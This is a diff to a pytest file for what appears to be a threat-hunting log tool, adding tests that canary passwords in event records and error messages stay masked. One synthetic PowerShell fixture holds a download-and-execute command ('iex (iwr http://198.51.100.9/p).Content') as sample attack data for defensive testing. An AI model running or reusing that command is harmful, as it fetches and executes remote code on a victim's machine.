@@ -49,7 +49,7 @@ def _records() -> list[dict[str, Any]]:
             number, SYSMON, 1, UtcTime=f"2026-11-03 08:00:{number:02d}.000", ProcessGuid=f"{{{number}-1}}",
             ProcessId=5000 + number, Image=f"C:\\Windows\\System32\\{image}", CommandLine=command, User="CORP\\anna",
             ParentImage="C:\\Windows\\explorer.exe", ParentProcessGuid="{1-0}", ParentProcessId=4000,
-            ParentCommandLine=f"explorer.exe --password {CANARY}", Hashes="SHA256=" + "ab" * 32))
+            ParentCommandLine=f"explorer.exe --password {CANARY}", Hashes="SHA256=" + "ab" * 32, Password=CANARY))
     script = f"$pw = ConvertTo-SecureString '{CANARY}' -AsPlainText -Force\niex (iwr http://198.51.100.9/p).Content"
     found.append(_record(40, POWERSHELL, 4104, ScriptBlockText=script, ScriptBlockId="1", Path=""))
     return found
@@ -97,3 +97,15 @@ def test_a_saved_hunt_stays_masked(evidence: Path, tmp_path: Path, capfd: pytest
     capfd.readouterr()
     assert main(["report", str(saved), "--format", "markdown"]) in {0, 4}
     assert _leaks(capfd.readouterr().out.encode()) == []
+
+
+@pytest.mark.parametrize("listed", ["", "good.example\n"])
+def test_an_error_that_quotes_a_list_is_masked(listed: str, evidence: Path, tmp_path: Path,
+                                               capfd: pytest.CaptureFixture[str]) -> None:
+    feed = tmp_path / "feed.txt"
+    feed.write_text(f"{listed}https://anna:{CANARY}@feed.example/a b\n")
+    code = main(["hunt", str(evidence), "--ioc", str(feed), "-o", str(tmp_path / "t.txt"), "-q"])
+    assert code == (4 if listed else 5)
+    said = capfd.readouterr().err
+    assert "douse: " in said
+    assert _leaks(said.encode()) == []
